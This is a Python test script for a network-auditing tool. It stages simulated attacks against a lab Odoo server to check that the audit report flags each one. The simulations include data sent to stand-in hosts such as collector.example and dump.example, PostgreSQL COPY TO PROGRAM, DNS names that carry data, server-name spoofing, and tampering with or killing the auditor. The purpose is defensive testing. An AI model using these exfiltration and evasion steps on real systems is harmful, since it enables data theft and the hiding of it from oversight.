#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""An ordinary day of a real Odoo ends all-clear; then every attack flips the report, and it flips back.

    day.py --build FOLDER --root ODOO_ROOT [--prepared] [--only ATTACK,...] [--keep]

Odoo runs prefork behind nginx, its PostgreSQL on another address of this host. The rest of the world is in a second
network namespace (internet.py), reached by names through a name server. The auditor runs in its default scope, with a
catalogue as an operator has it after the first day: what was declared is printed. Everything is asked of `netaudit
report`, as people ask it.
"""
import argparse
import collections
import contextlib
import json
import os
import shlex
import shutil
import signal
import sqlite3
import subprocess
import sys
import time

import server
import suite

sys.path[:0] = [os.path.join(os.path.dirname(server.HERE), "attribution")]
import lab  # noqa: E402

ADDONS = ("day_shop", "day_vendor")
HERE, THERE = "198.51.100.2", "198.51.100.1"    # this host; the first address of the rest of the world
NAMES = {"licence.maildesk.example": "198.51.100.11", "smtp.gmail.com": "198.51.100.12", "imap.gmail.com": "198.51.100.12",
         "iap.odoo.com": "198.51.100.13", "fonts.cdn.example": "198.51.100.14", "collector.example": "198.51.100.15",
         "licence.quietsoft.example": "198.51.100.16", "cover.example": "198.51.100.17", "api.mistral.ai": "198.51.100.18",
         "dump.example": "198.51.100.19", "hidden.example": "198.51.100.20", "shadow.example": "198.51.100.21"}
RESOLVER, PROXY = "198.51.100.53", "198.51.100.54"
SITE = f"""[maildesk]
bucket = vendor
host = licence.maildesk.example
licence_addon = day_vendor
licence_call_bytes = 8000
licence_day_bytes = 400000
[quietsoft]
bucket = vendor
host = licence.quietsoft.example
licence_addon = day_vendor
licence_call_bytes = 8000
licence_day_bytes = 10000
[maildesk-callers]
bucket = vendor
address = {NAMES["licence.maildesk.example"]}
address = {NAMES["licence.quietsoft.example"]}
"""
FIRST_DAY = (
    ("catalogue", "add", "our-database", HERE, "--bucket", "internal", "--reason", "PostgreSQL of the shop"),
    ("catalogue", "add", "our-resolver", RESOLVER, "--bucket", "internal", "--reason", "the name server of this network"),
    ("catalogue", "add", "our-proxy", PROXY, "--bucket", "internal", "--reason", "the way out of this network"),
    ("catalogue", "add", "fonts", "fonts.cdn.example", "--bucket", "third-party", "--reason", "fonts of what is printed"),
)
NGINX = """daemon off; worker_processes 1; pid /tmp/nginx.pid; error_log /tmp/nginx.log;
events {{ worker_connections 64; }}
http {{ access_log off; client_body_temp_path /tmp/body; proxy_temp_path /tmp/proxy; fastcgi_temp_path /tmp/fastcgi;
uwsgi_temp_path /tmp/uwsgi; scgi_temp_path /tmp/scgi;
server {{ listen {here}:80; location / {{ proxy_pass http://127.0.0.1:{port};
proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for; }} }} }}
"""
# `tells`: in the finding's text; `least` bytes; `undo` instead of an acknowledgement
Attack = collections.namedtuple("Attack", "name act rule subject tells least undo", defaults=[None])


def vendor(action, **arguments):
    return lambda day: day.ask(f"/day_vendor/{action}?" + "&".join(f"{k}={v}" for k, v in arguments.items()))


def drip(day):
    for _ in range(12):
        vendor("post", url="https://licence.quietsoft.example/check", size=500)(day)


def call_in(name, port):
    def act(day):
        day.internet.stdin.write(f"{NAMES[name]} http://{HERE}:{port}/day_vendor/hidden\n")
        day.internet.stdin.flush()
        day.internet.stdout.readline()
    return act


def database_program(day):
    day.ask("/day_shop/database_program?url=http://dump.example/")


def from_nowhere(day):
    """Code that is in no add-on: typed into a shell."""
    day.odoo.shell("import urllib.request\nurllib.request.urlopen('https://api.mistral.ai/').read()\n")


def weaken(day):
    day.settings("disabled_channels = smtp")
    day.settings("")


def edit_sums(day):
    """Somebody who may write there makes the vendor's bytes fewer."""
    day.stop_auditor()
    with contextlib.closing(sqlite3.connect(f"{day.folder}/state/journal/index.db")) as index:
        index.execute("UPDATE rollup SET bytes_out = bytes_out / 2 WHERE bucket = 'vendor'")
        index.commit()
    day.start_auditor()


def make_sums_again(day):
    day.stop_auditor()
    for name in ("index.db", "index.db-wal", "index.db-shm"):
        with contextlib.suppress(FileNotFoundError):
            os.unlink(f"{day.folder}/state/journal/{name}")
    day.start_auditor()


def overflow(day):
    """Rings of one page, and nobody who empties them."""
    day.stop_auditor()
    day.write_settings("ring_kib = 4\nbulk_ring_kib = 4")
    day.start_auditor()
    observer = day.status()["components"]["observer"]["pid"]
    os.kill(observer, signal.SIGSTOP)
    try:
        for _ in range(20):
            day.visit()
    finally:
        os.kill(observer, signal.SIGCONT)
    day.settle()
    day.write_settings("")
    day.restart_auditor()


def kill(day):
    children = [part["pid"] for part in day.status()["components"].values() if part["pid"]]
    day.auditor.kill()
    day.auditor.wait()
    lab.wait_for("the end of its children", lambda: not any(os.path.exists(f"/proc/{pid}") for pid in children))
    day.start_auditor()


ATTACKS = (
    Attack("a payload in the licence check", vendor("post", url="https://licence.maildesk.example/check", size=200_000),
           "vendor-call", "licence.maildesk.example", "day_vendor", 200_000),
    Attack("the same by Odoo's code for in-app purchases",
           vendor("through_iap", url="https://licence.maildesk.example/check", size=900),
           "vendor-licence", "licence.maildesk.example", "iap", 900),
    Attack("a slow drip", drip, "vendor-day", "quietsoft", "quietsoft", 10_000),
    Attack("an unknown host", vendor("post", url="https://collector.example/", size=5000), "uncatalogued",
           "collector.example", "collector.example", 5000),
    Attack("a lying server name", vendor("lying_name", host="cover.example", claimed="iap.odoo.com"), "names",
           None, "", 0),
    Attack("a hidden route, called in", call_in("licence.maildesk.example", server.HTTP_PORT), "vendor-inbound",
           NAMES["licence.maildesk.example"], "", 0),
    Attack("the same through nginx", call_in("licence.quietsoft.example", 80), "vendor-inbound",
           NAMES["licence.quietsoft.example"], "", 0),
    Attack("an unknown host, through the proxy", vendor("post", url="https://shadow.example/", size=5000, proxy=f"{PROXY}:3128"),
           "uncatalogued", None, "shadow.example", 0),
    Attack("COPY TO PROGRAM", database_program, "uncatalogued", "dump.example", "", 0),
    Attack("an unattributed call", from_nowhere, "unattributed", "api.mistral.ai", "api.mistral.ai", 0),
    Attack("TLS by a library nobody sees into", vendor("opaque", host="hidden.example"), "opaque", "hidden.example", "", 0),
    Attack("names that carry data", vendor("names", domain="leak.example", count=40), None, None, "leak.example", 0),
    Attack("a channel switched off and on", weaken, "weakened", None, "", 0),
    Attack("an edited sum", edit_sums, "edited", None, "", 0, make_sums_again),
    Attack("rings too small", overflow, "lost", None, "", 0),
    Attack("the auditor was killed", kill, "gap", None, "", 0),
)


class Odoo(server.Server):
    @staticmethod
    def environment():
        certificate = server.OWN + "/day.pem"
        return dict(server.Server.environment(), SSL_CERT_FILE=certificate, REQUESTS_CA_BUNDLE=certificate)


class Day:
    def __init__(self, options, folder):
        self.build, self.folder, self.auditor, self.nginx = os.path.abspath(options.build), folder, None, None
        self.internet = self.start_internet()
        self.odoo = Odoo(options.root, os.path.join(folder, "private"))
        self.libraries = self.odoo.root + "/usr/lib/x86_64-linux-gnu"
        self.prepare_root()

    def start_internet(self):
        """The second namespace, and its addresses."""
        subprocess.run(["ip", "link", "add", "here", "type", "veth", "peer", "name", "there"], check=True)
        resolver = f"{self.folder}/internet-resolv.conf"
        with open(resolver, "w", encoding="ascii") as file:
            file.write(f"nameserver {RESOLVER}\n")
        wait = f"mount --bind {shlex.quote(resolver)} /etc/resolv.conf && read -r go && ip link set lo up && ip link set there up && " + " && ".join(
            f"ip address add {address}/24 dev there" for address in (THERE, *sorted(set(NAMES.values())), RESOLVER, PROXY))
        world = subprocess.Popen(
            ["unshare", "--net", "--mount", "sh", "-c", wait + ' && exec "$@"', "sh", "/usr/bin/python3", os.path.join(server.HERE, "internet.py"), self.folder, PROXY,
             *(f"{name}={address}" for name, address in NAMES.items())], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        lab.wait_for("the second namespace", lambda: os.stat(f"/proc/{world.pid}/ns/net").st_ino != lab.own_network(), world)
        subprocess.run(["ip", "link", "set", "there", "netns", str(world.pid)], check=True)
        subprocess.run(["ip", "link", "set", "here", "up"], check=True)
        subprocess.run(["ip", "address", "add", HERE + "/24", "dev", "here"], check=True)
        world.stdin.write("go\n")
        world.stdin.flush()
        if world.stdout.readline() != "ready\n":
            raise SystemExit("FAIL: the rest of the world did not start")
        return world

    def prepare_root(self):
        odoo, private = self.odoo, self.odoo.private
        for name in ADDONS:
            shutil.copytree(os.path.join(server.HERE, "day_addons", name), f"{odoo.own}/day-addons/{name}")
        shutil.copy(os.path.join(self.folder, "day.pem"), odoo.own)
        for file, text in (("resolv.conf", f"nameserver {RESOLVER}\n"), ("hosts", "127.0.0.1 localhost\n")):
            with open(f"{private}/{file}", "w", encoding="ascii") as out:
                out.write(text)
            odoo.mount("--bind", f"{private}/{file}", f"{odoo.root}/etc/{file}")
        for name in ("upper", "work"):
            os.mkdir(f"{private}/{name}")
        odoo.mount("-t", "overlay", "overlay", "-o",
                   f"lowerdir={self.libraries},upperdir={private}/upper,workdir={private}/work", self.libraries)
        odoo.configure(server.OWN + "/day-addons", db_host=HERE, db_user="odoo", http_interface="0.0.0.0", proxy_mode="True")
        odoo.start_database_for_tcp(address=HERE)
        odoo.install(ADDONS)

    # the auditor and the questions

    def start_auditor(self):
        self.settings_path, site = os.path.join(self.folder, "netaudit.conf"), os.path.join(self.folder, "site")
        os.makedirs(site, exist_ok=True)
        if not os.path.exists(site + "/10-vendors.ini"):
            with open(site + "/10-vendors.ini", "w", encoding="ascii") as file:
                file.write(SITE)
        if not os.path.exists(self.settings_path):
            self.write_settings("")
        if os.path.exists(f"{self.folder}/run/status.json"):    # of one that was killed
            os.unlink(f"{self.folder}/run/status.json")
        with open(os.path.join(self.folder, "auditor.log"), "a", encoding="ascii") as log:
            self.auditor = subprocess.Popen([f"{self.build}/netaudit-bpf", "--config", self.settings_path], stdout=log,
                                            stderr=log, stdin=subprocess.DEVNULL)
        lab.wait_for("the auditor", lambda: self.status().get("state") == "running", self.auditor)

    def write_settings(self, more):
        with open(self.settings_path, "w", encoding="ascii") as file:
            file.write(f"[daemon]\nstate_dir = {self.folder}/state\nrun_dir = {self.folder}/run\nuser = nobody\nsign_user = daemon\n"
                       f"[catalogue]\nshipped_dir = {os.path.abspath('catalogue')}\nsite_dir = {self.folder}/site\n"
                       f"[capture]\ntrusted_proxies = 127.0.0.1\n{more}\n")

    def settings(self, more):
        """Changes the settings of the running auditor; returns when the change is a record."""
        before = self.count_of("config")
        self.write_settings(more)
        self.auditor.send_signal(signal.SIGHUP)
        lab.wait_for("the change of settings", lambda: self.count_of("config") > before, self.auditor)

    def count_of(self, kind):
        return len(self.netaudit("log", "--json", "--all", "--lines", "0", "--kind", kind).stdout.splitlines())

    def status(self):
        try:
            with open(f"{self.folder}/run/status.json", encoding="utf-8") as file:
                return json.load(file)
        except (FileNotFoundError, ValueError):
            return {}

    def stop_auditor(self):
        self.auditor.send_signal(signal.SIGTERM)
        if self.auditor.wait(lab.PATIENCE):
            raise SystemExit(f"FAIL: the auditor ended with {self.auditor.returncode}")

    def netaudit(self, *arguments):
        return subprocess.run([f"{self.build}/netaudit", *arguments, "--state-dir", f"{self.folder}/state", "--run-dir",
                               f"{self.folder}/run"], capture_output=True, text=True, check=False)

    def decide(self, *arguments):
        more = ["--shipped", os.path.abspath("catalogue"), "--site", f"{self.folder}/site"] if arguments[0] == "catalogue" else []
        print("    netaudit " + " ".join(word if " " not in word else f'"{word}"' for word in arguments))
        done = self.netaudit(*arguments, *more)
        if done.returncode:
            raise SystemExit(f"FAIL: {done.stderr}")

    def report(self):
        done = self.netaudit("report", "--json", "--shipped", os.path.abspath("catalogue"), "--site", f"{self.folder}/site")
        if done.returncode:
            raise SystemExit(f"FAIL: report: {done.stderr}")
        return json.loads(done.stdout)

    def open_findings(self):
        return [finding for finding in self.report()["findings"] if "acknowledged_by" not in finding]

    def settle(self):
        """Until everything that happened so far is recorded and counted."""
        begun_ns = time.clock_gettime_ns(time.CLOCK_BOOTTIME)

        def drained():
            status = self.status()
            return status["now_boottime_ns"] > begun_ns + 2_000_000_000 and not status["queue_used_bytes"] and \
                sum(status["events_received"].values()) <= status["events_settled"]
        lab.wait_for("the records", drained, self.auditor)

    # what happens

    def ask(self, path):
        status, text = self.odoo.ask(server.HTTP_PORT, path)
        if status != 200:
            raise SystemExit(f"FAIL: {path}: status {status}: {text[-1500:]}\n{self.odoo.log()[-3000:]}")
        return text

    def start_nginx(self):
        with open(self.odoo.own + "/nginx.conf", "w", encoding="ascii") as file:
            file.write(NGINX.format(here=HERE, port=server.HTTP_PORT))
        self.nginx = subprocess.Popen(["chroot", self.odoo.root, "nginx", "-c", server.OWN + "/nginx.conf"],
                                      env=self.odoo.environment(), stderr=subprocess.DEVNULL)

    def visit(self):
        """A visitor's look at the shop, through nginx."""
        done = subprocess.run(["curl", "-sf", "-m", "60", "--retry", "5", "--retry-connrefused", "-o", "/dev/null",
                               f"http://{HERE}/web/login"], check=False)
        if done.returncode:
            raise SystemExit("FAIL: nginx does not lead to Odoo")

    def hours(self):
        self.visit()
        for action in ("mail_out", "mail_in", "credits", "print"):
            self.ask("/day_shop/" + action)
        vendor("post", url="https://licence.maildesk.example/check", size=300)(self)
        vendor("post", url="https://licence.maildesk.example/check", size=300, proxy=f"{PROXY}:3128")(self)

    def upgrade_library(self):
        """As a package does it: another file takes the name, running processes keep theirs."""
        for name in ("libssl.so.3", "libcrypto.so.3"):
            path = f"{self.libraries}/{name}"
            shutil.copy(os.path.realpath(path), path + ".new")
            os.rename(path + ".new", path)

    def recycle(self):
        workers = [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and self.title(pid).startswith("odoo: WorkerHTTP")
                   and os.stat(f"/proc/{pid}/ns/net").st_ino == lab.own_network()]
        os.kill(workers[0], signal.SIGTERM)
        lab.wait_for("the worker's end", lambda: not os.path.exists(f"/proc/{workers[0]}"), self.odoo.master)

    @staticmethod
    def title(pid):
        try:
            with open(f"/proc/{pid}/cmdline", encoding="utf-8", errors="replace") as file:
                return file.read()
        except OSError:
            return ""

    def ordinary(self):
        self.start_auditor()
        print("  the first day:")
        for command in FIRST_DAY:
            self.decide(*command)
        self.odoo.start()
        self.start_nginx()
        for event in (None, self.recycle, self.upgrade_library, self.restart_odoo, self.restart_auditor):
            if event:
                event()
            self.hours()
        self.settle()

    def restart_odoo(self):
        self.odoo.stop()
        self.odoo.start()

    def restart_auditor(self):
        self.stop_auditor()
        self.start_auditor()

    def end(self):
        if self.auditor and self.auditor.poll() is None:
            self.stop_auditor()
        if hasattr(self.odoo, "master"):
            self.odoo.stop()
        if self.nginx:
            self.nginx.terminate()
            self.nginx.wait()
        self.odoo.cluster("stop", "-m", "fast")
        self.internet.stdin.close()
        self.internet.wait()


def describe(finding):
    return f"{finding['rule']} {finding['subject']}: {finding['text']} (record {finding.get('seq', '-')})"


def matches(attack, finding):
    return (attack.rule or finding["rule"]) == finding["rule"] and (attack.subject or finding["subject"]) == finding["subject"] \
        and attack.tells in finding["text"] + finding["subject"]


def try_attack(day, attack):
    """Problems."""
    attack.act(day)
    day.settle()
    found = day.open_findings()
    for finding in found:
        print("      " + describe(finding))
    good = [finding for finding in found if matches(attack, finding)]
    problems = [] if good else [f"{attack.name}: nothing says {attack.rule or 'anything'} of {attack.subject or attack.tells}"]
    for finding in good:
        if "seq" not in finding:
            continue
        shown = day.netaudit("show", str(finding["seq"]), "--json")
        if shown.returncode:
            problems.append(f"{attack.name}: record {finding['seq']} cannot be shown")
        sent = [int(word) for word, unit in zip(finding["text"].split(), finding["text"].split()[1:]) if unit.startswith("byte") and word.isdigit()]
        if attack.least and (not sent or max(sent) < attack.least):
            problems.append(f"{attack.name}: says {sent} bytes, of at least {attack.least}: {finding['text']}")
    if attack.undo:
        attack.undo(day)
    for finding in [] if attack.undo else found:
        day.decide("acknowledge", finding["rule"], finding["subject"], "--reason", "seen and asked")
    try:
        lab.wait_for("the verdict to flip back", lambda: day.report()["verdict"] == "all-clear", day.auditor)
    except SystemExit:
        problems.append(f"{attack.name}: does not flip back: {[describe(finding) for finding in day.open_findings()]}")
    return problems


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", default="", help="words of the attacks' names, separated by commas")
    options, folder = suite.begin(parser, "odoo-day")
    day, problems = Day(options, folder), []
    try:
        day.ordinary()
        found = day.open_findings()
        print(f"  an ordinary day: {day.report()['verdict']}")
        problems += [f"an ordinary day: {describe(finding)}" for finding in found]
        for problem in problems:
            print("  " + problem)
        for finding in found:
            day.decide("acknowledge", finding["rule"], finding["subject"], "--reason", "to go on")
        attacks = [attack for attack in ATTACKS if any(word in attack.name for word in options.only.split(","))]
        for attack in attacks:
            print(f"  {attack.name}", flush=True)
            problems += try_attack(day, attack)
    finally:
        day.end()
    return suite.end(problems, f"an ordinary day and {len(attacks)} attacks")


if __name__ == "__main__":
    sys.exit(main())
